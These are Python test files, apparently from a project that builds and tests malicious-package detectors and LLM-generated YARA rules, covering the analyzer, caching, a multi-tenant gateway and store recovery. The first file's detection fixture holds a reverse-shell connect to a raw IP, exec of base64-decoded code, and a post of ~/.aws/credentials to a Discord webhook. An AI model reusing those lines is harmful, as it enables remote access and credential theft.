MALICIOUS_SNIPPET = '''
import socket, os, base64, requests
def beacon():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("45.137.21.9", 4444))
    os.dup2(s.fileno(), 0)
def drop():
    exec(base64.b64decode("aW1wb3J0IG9z"))
def steal():
    requests.post("https://discord.com/api/webhooks/1/x", json=dict(t=open(os.path.expanduser("~/.aws/credentials")).read()))
'''

BENIGN_SNIPPET = '''
def moving_average(values, window):
    return [sum(values[max(0, i - window):i + 1]) / max(1, min(i + 1, window)) for i in range(len(values))]
'''


# -- knowledge catalogue ---------------------------------------------------------

def test_catalog_is_substantial_and_unique():
    keys = [entry.key for entry in INDICATOR_CATALOG]
    assert len(keys) == len(set(keys))
    assert len(keys) >= 40


def test_catalog_covers_every_audit_category():
    for category in AUDIT_CATEGORIES:
        assert indicators_for_category(category)


def test_catalog_subcategories_are_valid():
    from repro.categories import category_of
    for entry in INDICATOR_CATALOG:
        category_of(entry.subcategory)  # raises on unknown


def test_indicator_by_key_and_min_specificity():
    entry = indicator_by_key("net_discord_webhook")
    assert entry.specificity > 0.9
    assert minimum_specificity(["net_discord_webhook", "exec_os_system"]) == pytest.approx(0.5)
    with pytest.raises(KeyError):
        indicator_by_key("nope")


# -- analyzer ----------------------------------------------------------------------

def test_analyzer_finds_expected_behaviors():
    report = CodeAnalyzer().analyze_code(MALICIOUS_SNIPPET)
    keys = {finding.indicator_key for finding in report.findings}
    assert "net_discord_webhook" in keys
    assert "net_reverse_shell_dup2" in keys
    assert "enc_exec_b64" in keys
    assert "ioc_raw_ip_endpoint" in keys
    assert report.is_suspicious


def test_analyzer_clean_code_produces_no_findings():
    report = CodeAnalyzer().analyze_code(BENIGN_SNIPPET)
    assert report.findings == []
    assert not report.is_suspicious


def test_analyzer_merges_multiple_units_without_duplicates():
    analyzer = CodeAnalyzer()
    merged = analyzer.analyze_units([MALICIOUS_SNIPPET, MALICIOUS_SNIPPET])
    keys = [finding.indicator_key for finding in merged.findings]
    assert len(keys) == len(set(keys))
    assert merged.analyzed_units == 2


def test_analyzer_metadata_findings():
    metadata = PackageMetadata(name="reqests", version="0.0.0", summary="", description="")
    report = CodeAnalyzer().analyze_metadata(metadata)
    subcats = {finding.subcategory for finding in report.findings}
    assert "Version Number Deception" in subcats
    assert report.metadata_findings


def test_report_to_text_mentions_findings():
    report = CodeAnalyzer().analyze_code(MALICIOUS_SNIPPET)
    text = report.to_text()
    assert "Analysis Result" in text
    assert "reverse shell" in text.lower()


def test_finding_categories_are_valid_taxonomy_categories():
    report = CodeAnalyzer().analyze_code(MALICIOUS_SNIPPET)
    for finding in report.findings:
        assert finding.category in CATEGORIES


# -- profiles ------------------------------------------------------------------------

def test_profiles_present_and_ordered():
    assert set(PROFILES) >= {"gpt-4o", "gpt-3.5-turbo", "claude-3.5-sonnet", "llama-3.1-70b", "oracle"}
    assert PROFILES["gpt-4o"].recall > PROFILES["gpt-3.5-turbo"].recall
    assert PROFILES["claude-3.5-sonnet"].recall > PROFILES["gpt-4o"].recall
    assert PROFILES["claude-3.5-sonnet"].string_precision < PROFILES["gpt-4o"].string_precision


def test_get_profile_aliases():
    assert get_profile("GPT-4o").name == "gpt-4o"
    assert get_profile("llama-3.1:70b").name == "llama-3.1-70b"
    with pytest.raises(KeyError):
        get_profile("unknown-model")


def test_profile_validation():
    from repro.llm.profiles import ModelProfile
    with pytest.raises(ValueError):
        ModelProfile("x", "X", 8000, recall=1.2, string_precision=0.5, hallucination_rate=0.0,
                     syntax_error_rate=0.0, fix_success_rate=1.0, refine_quality=1.0)


# -- tokenizer ------------------------------------------------------------------------

def test_count_tokens_monotonic_in_length():
    assert count_tokens("") == 0
    assert count_tokens("word") >= 1
    assert count_tokens("word " * 100) > count_tokens("word " * 10)


def test_truncate_to_tokens_behaviour():
    text = "tok " * 5000
    truncated, was_truncated = truncate_to_tokens(text, 100)
    assert was_truncated
    assert count_tokens(truncated) <= 100
    untouched, flag = truncate_to_tokens("short text", 1000)
    assert untouched == "short text" and not flag


def test_truncate_to_zero_budget():
    truncated, flag = truncate_to_tokens("abc", 0)
    assert truncated == "" and flag


# -- protocol --------------------------------------------------------------------------

def test_protocol_sections_roundtrip():
    text = (protocol.section("TASK", "craft") + protocol.section("SAMPLE 1", "code one")
            + protocol.section("SAMPLE 2", "code two") + protocol.section("RULE", "rule body"))
    sections = protocol.parse_sections(text)
    assert protocol.first_section(sections, "TASK") == "craft"
    assert protocol.sections_with_prefix(sections, "SAMPLE") == ["code one", "code two"]


def test_protocol_sample_numeric_ordering():
    text = "".join(protocol.section(f"SAMPLE {i}", f"body {i}") for i in (10, 2, 1))
    sections = protocol.parse_sections(text)
    assert protocol.sections_with_prefix(sections, "SAMPLE") == ["body 1", "body 2", "body 10"]


def test_protocol_completion_extraction():
    completion = protocol.render_completion("analysis text", "rule text")
    assert protocol.extract_rule_from_completion(completion) == "rule text"
    assert protocol.extract_analysis_from_completion(completion) == "analysis text"
    # bare rule without markers is passed through
    assert protocol.extract_rule_from_completion("rule x {}") == "rule x {}"
