"""DiskScanResultCache durability: corruption and partial-write recovery,
and LRU eviction order across a simulated process restart."""

import json
import os

from repro.evaluation.detector import PackageDetection
from repro.scanserve import DiskScanResultCache


def _detection(name="pkg==1.0", rules=("r1",)):
    return PackageDetection(
        package=name, actual_malicious=True, yara_rules=list(rules)
    )


def _age(cache: DiskScanResultCache, fingerprint: str, version: int, seconds: float):
    """Backdate an entry's mtime (restart recency comes from mtimes)."""
    path = cache.directory / cache._entry_name(fingerprint, version)
    stat = path.stat()
    os.utime(path, (stat.st_atime - seconds, stat.st_mtime - seconds))


class TestPartialWriteRecovery:
    def test_leftover_tmp_files_are_swept_on_attach(self, tmp_path):
        directory = tmp_path / "cache"
        first = DiskScanResultCache(directory)
        first.put("fp", 1, _detection())
        # a crash mid-put leaves a torn .tmp behind; os.replace never ran
        torn = directory / "deadbeef.tmp"
        torn.write_text('{"fingerprint": "fp2", "ruleset', encoding="utf-8")

        reborn = DiskScanResultCache(directory)
        assert not torn.exists()
        assert len(reborn) == 1
        assert reborn.get("fp", 1) is not None

    def test_truncated_entry_is_dropped_on_attach(self, tmp_path):
        directory = tmp_path / "cache"
        cache = DiskScanResultCache(directory)
        cache.put("good", 1, _detection("good==1.0"))
        cache.put("bad", 1, _detection("bad==1.0"))
        victim = directory / cache._entry_name("bad", 1)
        payload = victim.read_text(encoding="utf-8")
        victim.write_text(payload[: len(payload) // 2], encoding="utf-8")

        reborn = DiskScanResultCache(directory)
        assert len(reborn) == 1
        assert reborn.get("bad", 1) is None
        assert not victim.exists()  # corrupt file deleted, not kept around
        assert reborn.get("good", 1).package == "good==1.0"

    def test_entry_missing_required_fields_is_dropped(self, tmp_path):
        directory = tmp_path / "cache"
        cache = DiskScanResultCache(directory)
        cache.put("fp", 1, _detection())
        incomplete = directory / "0000.json"
        incomplete.write_text(
            json.dumps({"fingerprint": "x", "ruleset_version": 1, "detection": {}}),
            encoding="utf-8",
        )
        foreign = directory / "notes.json"
        foreign.write_text("[1, 2, 3]", encoding="utf-8")

        reborn = DiskScanResultCache(directory)
        assert len(reborn) == 1
        assert not incomplete.exists() and not foreign.exists()

    def test_entry_rotting_after_attach_is_a_miss_not_a_crash(self, tmp_path):
        cache = DiskScanResultCache(tmp_path / "cache")
        cache.put("fp", 1, _detection())
        path = cache.directory / cache._entry_name("fp", 1)
        path.write_text("{not json", encoding="utf-8")
        assert cache.get("fp", 1) is None
        assert cache.stats.misses == 1
        # the rotted key is forgotten: a fresh put works again
        cache.put("fp", 1, _detection())
        assert cache.get("fp", 1) is not None


class TestRestartEvictionOrder:
    def test_recency_order_survives_a_restart(self, tmp_path):
        directory = tmp_path / "cache"
        first = DiskScanResultCache(directory, max_entries=8)
        for index, fingerprint in enumerate(("a", "b", "c")):
            first.put(fingerprint, 1, _detection(f"{fingerprint}==1.0"))
            _age(first, fingerprint, 1, seconds=60.0 * (3 - index))
        # touch 'a' last: it becomes the most recently used on disk
        assert first.get("a", 1) is not None

        reborn = DiskScanResultCache(directory, max_entries=3)
        reborn.put("d", 1, _detection("d==1.0"))  # evicts exactly one entry
        assert reborn.get("b", 1) is None, "LRU victim must be the oldest mtime"
        assert reborn.get("a", 1) is not None
        assert reborn.get("c", 1) is not None
        assert not (directory / reborn._entry_name("b", 1)).exists()

    def test_attach_trims_down_to_max_entries_oldest_first(self, tmp_path):
        directory = tmp_path / "cache"
        big = DiskScanResultCache(directory, max_entries=8)
        for index, fingerprint in enumerate(("a", "b", "c", "d")):
            big.put(fingerprint, 1, _detection(f"{fingerprint}==1.0"))
            _age(big, fingerprint, 1, seconds=60.0 * (4 - index))

        small = DiskScanResultCache(directory, max_entries=2)
        assert len(small) == 2
        assert small.get("a", 1) is None and small.get("b", 1) is None
        assert small.get("c", 1) is not None and small.get("d", 1) is not None
        assert len(list(directory.glob("*.json"))) == 2

    def test_identical_mtimes_rebuild_deterministically(self, tmp_path):
        directory = tmp_path / "cache"
        first = DiskScanResultCache(directory, max_entries=8)
        for fingerprint in ("a", "b", "c"):
            first.put(fingerprint, 1, _detection(f"{fingerprint}==1.0"))
        stamp = (directory / first._entry_name("a", 1)).stat().st_mtime
        for fingerprint in ("a", "b", "c"):
            os.utime(directory / first._entry_name(fingerprint, 1), (stamp, stamp))

        orders = []
        for _ in range(2):
            reborn = DiskScanResultCache(directory, max_entries=8)
            orders.append(list(reborn._entries))
        assert orders[0] == orders[1]  # file-name tie-break: stable order

    def test_get_refreshes_mtime_for_the_next_process(self, tmp_path):
        directory = tmp_path / "cache"
        cache = DiskScanResultCache(directory, max_entries=8)
        cache.put("old", 1, _detection("old==1.0"))
        cache.put("new", 1, _detection("new==1.0"))
        _age(cache, "old", 1, seconds=3600.0)
        _age(cache, "new", 1, seconds=1800.0)
        assert cache.get("old", 1) is not None  # bumps mtime to now

        reborn = DiskScanResultCache(directory, max_entries=1)
        assert reborn.get("old", 1) is not None
        assert reborn.get("new", 1) is None
