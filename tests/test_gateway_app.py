"""GatewayApp acceptance tests: two concurrent tenants with isolated
namespaces and notification streams, deterministic rate limiting with
``retry_after``, job cancellation, and graceful shutdown draining.

Everything runs on a real event loop via ``asyncio.run``; quota timing is
driven by an injected fake clock so no test depends on wall-clock speed.
"""

from __future__ import annotations

import asyncio

import pytest

from repro.corpus.package import Package, PackageFile, PackageMetadata
from repro.gateway import (
    GatewayApp,
    GatewayConfig,
    NotificationHub,
    RateLimited,
    TenantQuota,
    UnknownTenant,
)
from repro.gateway.jobs import CANCELLED, DONE, FAILED
from repro.yarax import compile_source

NEEDLE = "gateway_evil_needle"


class FakeClock:
    def __init__(self, start: float = 1000.0) -> None:
        self.now = start

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


def _pkg(name: str, content: str) -> Package:
    return Package(
        name=name,
        version="1.0",
        metadata=PackageMetadata(name=name),
        files=[PackageFile(path=f"{name}.py", content=content)],
    )


def _targets(prefix: str = "pkg", count: int = 3) -> list[Package]:
    bad = _pkg(f"{prefix}-bad", f"payload = '{NEEDLE}'")
    benign = [
        _pkg(f"{prefix}-ok-{i}", "def useful(): return 1") for i in range(count - 1)
    ]
    return [bad, *benign]


def _publish_tiny_rules(app: GatewayApp, tenant: str, rule: str = "gw") -> None:
    app.tenant(tenant).registry.publish(
        yara=compile_source(
            f'rule {rule} {{ strings: $a = "{NEEDLE}" condition: $a }}'
        ),
        label=f"{tenant} rules",
    )


def run(coro):
    return asyncio.run(coro)


async def started_app(config=None, clock=None) -> GatewayApp:
    return await GatewayApp(config or GatewayConfig(), clock=clock).start()


class TestTenantIsolation:
    def test_publishes_push_only_to_their_own_tenant(self):
        async def main():
            app = await started_app()
            app.register_tenant("acme")
            app.register_tenant("umbrella")
            sub_a = app.subscribe("acme")
            sub_b = app.subscribe("umbrella")

            _publish_tiny_rules(app, "acme")
            note = await sub_a.next(timeout=5)
            assert note is not None
            assert note.kind == "publish"
            assert note.payload["namespace"] == "acme"
            assert note.payload["version"] == 1
            # acme's publish must never surface on umbrella's stream
            assert await sub_b.next(timeout=0.1) is None

            _publish_tiny_rules(app, "umbrella")
            note_b = await sub_b.next(timeout=5)
            assert note_b is not None and note_b.payload["namespace"] == "umbrella"
            await app.shutdown()
        run(main())

    def test_registries_are_independent_namespaces(self):
        async def main():
            app = await started_app()
            acme = app.register_tenant("acme")
            umbrella = app.register_tenant("umbrella")
            assert acme.registry is not umbrella.registry
            assert acme.registry.namespace == "acme"
            _publish_tiny_rules(app, "acme")
            _publish_tiny_rules(app, "acme", rule="gw2")
            _publish_tiny_rules(app, "umbrella")
            # versions are per-namespace, not global
            assert acme.registry.versions() == [1, 2]
            assert umbrella.registry.versions() == [1]
            await app.shutdown()
        run(main())

    def test_concurrent_tenants_scan_their_own_rulesets(self):
        async def main():
            app = await started_app(GatewayConfig(workers=3))
            for tenant in ("acme", "umbrella"):
                app.register_tenant(tenant)
                _publish_tiny_rules(app, tenant)

            async def session(tenant: str) -> dict:
                job = await app.submit_scan(tenant, _targets(tenant))
                job = await app.await_job(tenant, job.id, timeout=30)
                assert job.state == DONE
                return job.result

            acme, umbrella = await asyncio.gather(
                session("acme"), session("umbrella")
            )
            assert acme["flagged"] == ["acme-bad==1.0"]
            assert umbrella["flagged"] == ["umbrella-bad==1.0"]
            await app.shutdown()
        run(main())

    def test_job_ownership_is_tenant_scoped(self):
        async def main():
            app = await started_app()
            app.register_tenant("acme")
            app.register_tenant("umbrella")
            _publish_tiny_rules(app, "acme")
            job = await app.submit_scan("acme", _targets())
            # the other tenant cannot see, await, or cancel it
            with pytest.raises(LookupError):
                app.job("umbrella", job.id)
            with pytest.raises(LookupError):
                await app.await_job("umbrella", job.id)
            with pytest.raises(LookupError):
                app.cancel_job("umbrella", job.id)
            assert await app.await_job("acme", job.id, timeout=30)
            await app.shutdown()
        run(main())

    def test_unknown_tenant_without_auto_register(self):
        async def main():
            app = await started_app(GatewayConfig(auto_register=False))
            with pytest.raises(UnknownTenant):
                app.tenant("ghost")
            with pytest.raises(UnknownTenant):
                await app.submit_scan("ghost", _targets())
            await app.shutdown()
        run(main())


class TestRateLimiting:
    def test_limited_tenant_backs_off_while_other_proceeds(self):
        async def main():
            clock = FakeClock()
            app = await started_app(clock=clock)
            app.register_tenant(
                "tiny", TenantQuota(capacity=2, refill_per_second=0.5)
            )
            app.register_tenant("big")
            for tenant in ("tiny", "big"):
                _publish_tiny_rules(app, tenant)

            first = await app.submit_scan("tiny", _targets("a"))
            second = await app.submit_scan("tiny", _targets("b"))
            with pytest.raises(RateLimited) as excinfo:
                await app.submit_scan("tiny", _targets("c"))
            # deficit of one token at 0.5 tokens/s -> retry in exactly 2s
            assert excinfo.value.retry_after == pytest.approx(2.0)

            # the other tenant is entirely unaffected by tiny's rejection
            other = await app.submit_scan("big", _targets("big"))
            other = await app.await_job("big", other.id, timeout=30)
            assert other.state == DONE

            # honouring retry_after makes the retry succeed deterministically
            clock.advance(2.0)
            third = await app.submit_scan("tiny", _targets("c"))
            for job in (first, second, third):
                assert (await app.await_job("tiny", job.id, timeout=30)).state == DONE
            tenant = app.tenant("tiny")
            assert tenant.jobs_submitted == 3
            assert tenant.rejected == 1
            await app.shutdown()
        run(main())

    def test_pending_job_ceiling_rejects_with_retry_after(self):
        async def main():
            clock = FakeClock()
            app = await started_app(clock=clock)
            app.register_tenant(
                "cap",
                TenantQuota(capacity=100, refill_per_second=2.0, max_pending_jobs=1),
            )
            _publish_tiny_rules(app, "cap")
            feed = await app.open_generation("cap")  # stays pending until closed
            with pytest.raises(RateLimited) as excinfo:
                await app.submit_scan("cap", _targets())
            assert excinfo.value.retry_after == pytest.approx(0.5)
            await app.close_generation("cap", feed.id)
            await app.await_job("cap", feed.id, timeout=60)
            # slot freed: admission succeeds again
            job = await app.submit_scan("cap", _targets())
            assert (await app.await_job("cap", job.id, timeout=30)).state == DONE
            await app.shutdown()
        run(main())


class TestJobsAndCancellation:
    def test_cancel_queued_scan_behind_open_feed(self):
        async def main():
            app = await started_app(GatewayConfig(workers=1))
            app.register_tenant("acme")
            _publish_tiny_rules(app, "acme")
            # the open generation feed occupies the single worker...
            feed = await app.open_generation("acme")
            queued = await app.submit_scan("acme", _targets())
            cancelled = app.cancel_job("acme", queued.id)
            assert (await app.await_job("acme", queued.id, timeout=5)).state == CANCELLED
            assert cancelled.cancel_requested
            # ...and finishes normally once closed
            await app.close_generation("acme", feed.id)
            assert (await app.await_job("acme", feed.id, timeout=60)).state == DONE
            await app.shutdown()
        run(main())

    def test_cancel_open_generation_closes_its_feed(self):
        async def main():
            app = await started_app()
            app.register_tenant("acme")
            feed = await app.open_generation("acme")
            app.cancel_job("acme", feed.id)
            job = await app.await_job("acme", feed.id, timeout=10)
            assert job.state == CANCELLED
            # the feed is gone: further streaming is an error, not a hang
            with pytest.raises(LookupError):
                await app.feed_generation("acme", feed.id, _targets())
            await app.shutdown()
        run(main())

    def test_empty_scan_batch_is_rejected_at_submission(self):
        async def main():
            app = await started_app()
            app.register_tenant("acme")
            with pytest.raises(ValueError):
                await app.submit_scan("acme", [])
            await app.shutdown()
        run(main())

    def test_scan_without_published_ruleset_fails_the_job(self):
        async def main():
            app = await started_app()
            app.register_tenant("acme")
            job = await app.submit_scan("acme", _targets())  # submission is valid
            job = await app.await_job("acme", job.id, timeout=30)
            assert job.state == FAILED
            assert "LookupError" in job.error
            await app.shutdown()
        run(main())


class TestGracefulShutdown:
    def test_drain_finishes_inflight_jobs(self):
        async def main():
            app = await started_app(GatewayConfig(workers=2))
            app.register_tenant("acme")
            _publish_tiny_rules(app, "acme")
            jobs = [
                await app.submit_scan("acme", _targets(f"batch{i}"))
                for i in range(4)
            ]
            await app.shutdown(drain=True, timeout=60)
            assert [job.state for job in jobs] == [DONE] * 4
            assert not app.jobs.accepting
            with pytest.raises(RuntimeError):
                await app.submit_scan("acme", _targets())
        run(main())

    def test_shutdown_closes_open_feeds_so_their_jobs_finish(self):
        async def main():
            app = await started_app()
            app.register_tenant("acme")
            feed = await app.open_generation("acme", label="interrupted")
            await app.shutdown(drain=True, timeout=60)
            # the feed was force-closed; the job ran generation on an empty
            # corpus and finished (failed is acceptable, hanging is not)
            assert feed.state in (DONE, FAILED)
        run(main())


class TestNotificationHub:
    def test_cursor_and_backlog_semantics(self):
        async def main():
            hub = NotificationHub(backlog=8)
            hub.bind(asyncio.get_running_loop())
            for i in range(3):
                hub.publish("t", "job", {"i": i})
            assert hub.current_seq("t") == 3
            assert [n.seq for n in hub.pending("t", after_seq=1)] == [2, 3]
            replay = hub.subscribe("t", from_start=True)
            assert [n.payload["i"] for n in replay.drain()] == [0, 1, 2]
            fresh = hub.subscribe("t")  # push-only: starts at the tip
            assert fresh.drain() == []
        run(main())

    def test_backlog_overflow_drops_oldest_and_counts(self):
        async def main():
            hub = NotificationHub(backlog=2)
            hub.bind(asyncio.get_running_loop())
            for i in range(5):
                hub.publish("t", "job", {"i": i})
            stats = hub.channel_stats("t")
            assert stats["dropped"] == 3
            assert [n.seq for n in hub.pending("t")] == [4, 5]  # oldest gone
        run(main())

    def test_wait_for_wakes_on_publish_and_times_out_empty(self):
        async def main():
            hub = NotificationHub()
            hub.bind(asyncio.get_running_loop())
            assert await hub.wait_for("t", timeout=0.05) == []  # long-poll timeout

            async def later():
                await asyncio.sleep(0.01)
                hub.publish("t", "publish", {"version": 1})

            task = asyncio.create_task(later())
            got = await hub.wait_for("t", timeout=5)
            assert [n.kind for n in got] == ["publish"]
            await task
        run(main())

    def test_publish_from_foreign_thread_is_trampolined(self):
        async def main():
            hub = NotificationHub()
            hub.bind(asyncio.get_running_loop())
            loop = asyncio.get_running_loop()
            await loop.run_in_executor(
                None, lambda: hub.publish("t", "rescan", {"from": "thread"})
            )
            got = await hub.wait_for("t", timeout=5)
            assert [n.payload["from"] for n in got] == ["thread"]
        run(main())
