"""Store recovery tests: fsck via ``open_store``, registry snapshots,
crash injection mid-publish, and recovery without recompilation
(`repro.store.recovery`, `repro.store.snapshots`, the registry wiring)."""

from __future__ import annotations

import pytest

from repro.api import GeneratedRule, GeneratedRuleSet, RulesetRegistry
from repro.store import (
    BlobStore,
    CrashPoint,
    MissingBlob,
    SimulatedCrash,
    SnapshotManifest,
    blob_digest,
    open_store,
)


def _rule(name: str, needle: str) -> GeneratedRule:
    return GeneratedRule(
        format="yara",
        name=name,
        text=f'rule {name} {{ strings: $a = "{needle}" condition: $a }}',
    )


def _ruleset(*rules: GeneratedRule) -> GeneratedRuleSet:
    rule_set = GeneratedRuleSet(model="test")
    for rule in rules:
        rule_set.add(rule)
    return rule_set


def _store(tmp_path, name="store"):
    store, report = open_store(tmp_path / name, durable=False)
    return store, report


class TestBlobStore:
    def test_put_get_round_trip(self, tmp_path):
        blobs = BlobStore(tmp_path / "blobs")
        digest = blobs.put(b"payload")
        assert digest == blob_digest(b"payload")
        assert blobs.get(digest) == b"payload"
        assert digest in blobs

    def test_put_is_idempotent(self, tmp_path):
        blobs = BlobStore(tmp_path / "blobs")
        assert blobs.put(b"same") == blobs.put(b"same")
        assert blobs.stats()["blobs"] == 1

    def test_missing_blob_raises(self, tmp_path):
        blobs = BlobStore(tmp_path / "blobs")
        with pytest.raises(MissingBlob):
            blobs.get("0" * 64)

    def test_get_verified_rejects_decayed_content(self, tmp_path):
        blobs = BlobStore(tmp_path / "blobs")
        digest = blobs.put(b"original")
        # rot the blob on disk behind the store's back
        path = next((tmp_path / "blobs").glob("*/*.blob"))
        path.write_bytes(b"rotted!!")
        with pytest.raises(MissingBlob):
            blobs.get_verified(digest)


class TestOpenStore:
    def test_fresh_store_reports_created(self, tmp_path):
        store, report = _store(tmp_path)
        with store:
            assert report.created
            assert report.ok
            assert report.records == 0

    def test_reopen_reports_records_and_epochs(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            store.journal.append("publish", {"version": 1})
            store.journal.append("activate", {"version": 1})
        store, report = _store(tmp_path)
        with store:
            assert not report.created
            assert report.records == 2
            assert report.last_epoch == 2
            assert report.records_by_type == {"publish": 1, "activate": 1}

    def test_missing_store_with_create_false(self, tmp_path):
        with pytest.raises(FileNotFoundError):
            open_store(tmp_path / "absent", create=False)

    def test_stray_scratch_files_are_swept(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            store.journal.append("publish", {"version": 1})
        stray = tmp_path / "store" / "blobs" / "aa" / "junk.blob.tmp"
        stray.parent.mkdir(parents=True, exist_ok=True)
        stray.write_bytes(b"torn blob write")
        store, report = _store(tmp_path)
        with store:
            assert report.stray_files_removed >= 1
            assert not stray.exists()

    def test_deep_fsck_spots_decayed_blob(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "evil")), label="v1")
            registry.snapshot()
        blob = next((tmp_path / "store" / "blobs").glob("*/*.blob"))
        blob.write_bytes(b"bitrot")
        store, report = open_store(tmp_path / "store", durable=False, deep=True)
        with store:
            assert not report.ok
            assert report.decayed_blobs


class TestRegistryRecovery:
    def test_registry_recovers_from_snapshot(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "evil_needle")), label="first")
            registry.publish_generated(_ruleset(_rule("r2", "other_needle")), label="second")
            registry.snapshot()

        store, report = _store(tmp_path)
        with store:
            recovered = RulesetRegistry.from_store(store)
            assert report.ok
            assert recovered.versions() == [1, 2]
            assert recovered.current_version() == 2
            assert recovered.current().label == "second"
            # the recovered index actually matches
            assert recovered.current().rule_count == 1

    def test_recovery_replays_tail_past_snapshot(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "evil")), label="first")
            registry.snapshot()
            # journal-only state after the snapshot: a publish and a rollback
            registry.publish_generated(_ruleset(_rule("r2", "worse")), label="second")
            registry.activate(1)

        store, _ = _store(tmp_path)
        with store:
            recovered = RulesetRegistry.from_store(store)
            assert recovered.versions() == [1, 2]
            assert recovered.current_version() == 1

    def test_retire_survives_recovery(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "a")), label="first")
            registry.publish_generated(_ruleset(_rule("r2", "b")), label="second")
            registry.retire(1, reason="decayed", retired_by="arena")

        store, _ = _store(tmp_path)
        with store:
            recovered = RulesetRegistry.from_store(store)
            assert recovered.versions() == [2]
            tombstones = recovered.retirements()
            assert len(tombstones) == 1
            assert tombstones[0].reason == "decayed"

    def test_recovery_never_recompiles(self, tmp_path, monkeypatch):
        """The acceptance criterion: snapshot blobs restore compiled versions
        byte-for-byte, so recovery must not touch either compiler."""
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(
                _ruleset(_rule("r1", "needle_one"), _rule("r2", "needle_two")),
                label="compiled-once",
            )
            registry.snapshot()

        import repro.semgrepx.compiler
        import repro.yarax.compiler

        def forbidden(*args, **kwargs):
            raise AssertionError("recovery must not recompile rules")

        monkeypatch.setattr(repro.yarax.compiler, "compile_source", forbidden)
        monkeypatch.setattr(repro.semgrepx.compiler, "compile_yaml", forbidden)

        store, _ = _store(tmp_path)
        with store:
            recovered = RulesetRegistry.from_store(store)
            assert recovered.current().rule_count == 2
            # and the recovered version still *matches* — proof the compiled
            # matchers came back, not just metadata
            matched = recovered.current().yara.match("x = 'needle_one'")
            assert [m.rule_name for m in matched] == ["r1"]


class TestCrashInjection:
    def test_crash_mid_publish_serves_previous_version(self, tmp_path):
        """Kill the journal write partway through the publish record: the
        store must come back serving v1 as if v2 was never attempted."""
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "stable")), label="v1")
            registry.snapshot()

            with CrashPoint(store.journal, at_byte=40):
                with pytest.raises(SimulatedCrash):
                    registry.publish_generated(
                        _ruleset(_rule("r2", "doomed")), label="v2"
                    )
            # write-ahead ordering: the in-memory registry never swapped
            assert registry.versions() == [1]
            assert registry.current_version() == 1

        store, report = _store(tmp_path)
        with store:
            assert report.torn_bytes_truncated > 0
            recovered = RulesetRegistry.from_store(store)
            assert recovered.versions() == [1]
            assert recovered.current_version() == 1
            assert recovered.current().label == "v1"

    @pytest.mark.parametrize("at_byte", [0, 1, 17, 63, 200])
    def test_crash_at_any_byte_never_serves_half_written_state(
        self, tmp_path, at_byte
    ):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "stable")), label="v1")
            registry.snapshot()
            with CrashPoint(store.journal, at_byte=at_byte) as crash:
                try:
                    registry.publish_generated(
                        _ruleset(_rule("r2", "doomed")), label="v2"
                    )
                except SimulatedCrash:
                    pass
            assert crash.fired

        store, report = _store(tmp_path)
        with store:
            recovered = RulesetRegistry.from_store(store)
            # all-or-nothing: either the publish record survived intact
            # (crash hit after the frame) or the version is gone entirely
            assert recovered.versions() in ([1], [1, 2])
            assert recovered.current_version() == 1
            assert recovered.current().label == "v1"
            assert not recovered.recovery_notes

    def test_crash_mid_checkpoint_keeps_journal_appendable(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            store.journal.append("fleet-start", {"run_key": "k"})
            with CrashPoint(store.journal, at_byte=10):
                with pytest.raises(SimulatedCrash):
                    store.journal.append(
                        "shard-complete", {"run_key": "k", "label": "s0"}
                    )

        store, report = _store(tmp_path)
        with store:
            assert report.ok
            assert report.torn_bytes_truncated > 0
            types = [r.type for r in store.journal.replay()]
            assert types == ["fleet-start"]
            # the truncated journal accepts fresh appends at the next epoch
            assert store.journal.append("shard-complete", {"run_key": "k"}) == 2


class TestCompaction:
    def test_compact_drops_prefix_and_preserves_state(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            for index in range(4):
                registry.publish_generated(
                    _ruleset(_rule(f"r{index}", f"needle{index}")),
                    label=f"v{index + 1}",
                )
            registry.retire(1, reason="old")
            outcome = store.compact(registry)
            assert outcome.snapshot_epoch > 0

        store, report = _store(tmp_path)
        with store:
            recovered = RulesetRegistry.from_store(store)
            assert report.ok
            assert recovered.versions() == [2, 3, 4]
            assert recovered.current_version() == 4
            assert [t.version for t in recovered.retirements()] == [1]

    def test_compact_is_idempotent_for_carried_records(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "x")), label="v1")
            store.journal.append("fleet-start", {"run_key": "k", "shards": ["a"]})
            store.journal.append(
                "shard-complete", {"run_key": "k", "label": "a", "blob": ""}
            )
            store.journal.append("fleet-merge", {"run_key": "k", "version": 1})

            for _ in range(3):
                store.compact(registry)
            carried = [
                r.type for r in store.journal.replay()
                if r.type in ("fleet-start", "shard-complete", "fleet-merge")
            ]
            assert sorted(carried) == ["fleet-merge", "fleet-start", "shard-complete"]

    def test_compact_garbage_collects_unreferenced_blobs(self, tmp_path):
        store, _ = _store(tmp_path)
        with store:
            registry = RulesetRegistry(store=store)
            registry.publish_generated(_ruleset(_rule("r1", "a")), label="v1")
            registry.publish_generated(_ruleset(_rule("r2", "b")), label="v2")
            registry.retire(1, reason="superseded")
            outcome = store.compact(registry)
            assert outcome.blobs_collected >= 1

        store, _ = _store(tmp_path)
        with store:
            recovered = RulesetRegistry.from_store(store)
            assert recovered.versions() == [2]
            assert recovered.current().rule_count == 1


class TestSnapshotManifest:
    def test_round_trip(self):
        manifest = SnapshotManifest(
            epoch=7,
            registry_blob="a" * 64,
